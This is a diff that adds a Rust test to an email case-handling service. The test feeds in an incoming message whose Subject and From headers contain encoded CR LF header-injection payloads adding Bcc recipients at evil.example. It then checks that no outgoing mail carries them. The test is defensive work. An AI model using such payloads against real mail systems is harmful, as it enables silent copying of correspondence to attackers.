@@ -409,3 +409,80 @@ async fn a_server_with_an_untrusted_certificate_gets_nothing() {
     assert_eq!((totals.sent, totals.retried), (0, 1));
     assert!(smtp.received().is_empty());
 }
+
+/// A subject and a sender's name that try to add headers (CR LF inside
+/// encoded words) reach no outgoing mail as headers: not the
+/// acknowledgement to the sender, not the notice to the caseworker.
+#[tokio::test]
+async fn header_injection_through_a_subject_or_a_name_never_reaches_an_outgoing_mail() {
+    let smtp = SmtpServer::start();
+    let team = "[[team]]\nname = \"send\"\ncategories = [\"send\"]\ndefault = true\n\
+                manager = \"manager@wexcombe.gov.uk\"\nmembers = [\"caseworker@wexcombe.gov.uk\"]\n";
+    let t = TestApp::with_extra(Backend::Sqlite, Delivery::Smtp(smtp.port), team).await;
+    let sample = String::from_utf8_lossy(postroom::demo::SAMPLE_MAILBOX[0].1).into_owned();
+    let hostile = sample
+        .lines()
+        .map(|l| {
+            if l.starts_with("Subject:") {
+                "Subject: =?UTF-8?Q?EHC_needs_assessment=0D=0ABcc:_leak@evil.example=0D=0AX-Injected:_yes?= =?UTF-8?B?DQpCY2M6IGxlYWsyQGV2aWwuZXhhbXBsZQ==?="
+                    .to_string()
+            } else if l.starts_with("From:") {
+                "From: =?UTF-8?Q?Ruth_Penhale=0D=0ABcc:_leak3@evil.example=0AX-Injected:_yes?= <ruth.penhale@parliament.uk>"
+                    .to_string()
+            } else {
+                l.to_string()
+            }
+        })
+        .collect::<Vec<_>>()
+        .join("\r\n");
+    t.deliver("hostile.eml", hostile.as_bytes());
+
+    let (outcomes, totals) = t.run_once().await;
+
+    assert!(
+        matches!(
+            outcomes[0],
+            postroom::ingest::Outcome::Opened {
+                acknowledged: true,
+                ..
+            }
+        ),
+        "{outcomes:?}"
+    );
+    let got = smtp.wait_for(2, Duration::from_secs(10));
+    assert!(
+        totals.sent >= 2 && got.len() >= 2,
+        "{totals:?} {}",
+        got.len()
+    );
+    for mail in &got {
+        let text = mail.text();
+        let head = text.split("\r\n\r\n").next().unwrap();
+        for line in head.lines() {
+            let name = line.split(':').next().unwrap_or("").to_ascii_lowercase();
+            assert!(
+                name != "bcc" && name != "x-injected",
+                "an injected header: {line:?}\n{head}"
+            );
+        }
+        assert!(
+            mail.rcpt_tos.iter().all(|r| !r.contains("evil.example")),
+            "{:?}",
+            mail.rcpt_tos
+        );
+        let subject = mail.header("Subject").unwrap();
+        assert!(
+            !subject.contains('\r') && !subject.contains('\n'),
+            "{subject:?}"
+        );
+    }
+    let ack = got
+        .iter()
+        .find(|m| m.rcpt_tos == ["ruth.penhale@parliament.uk"])
+        .expect("the acknowledgement goes to the sender only");
+    assert!(
+        ack.header("Subject").unwrap().contains("EHC"),
+        "{:?}",
+        ack.header("Subject")
+    );
+}
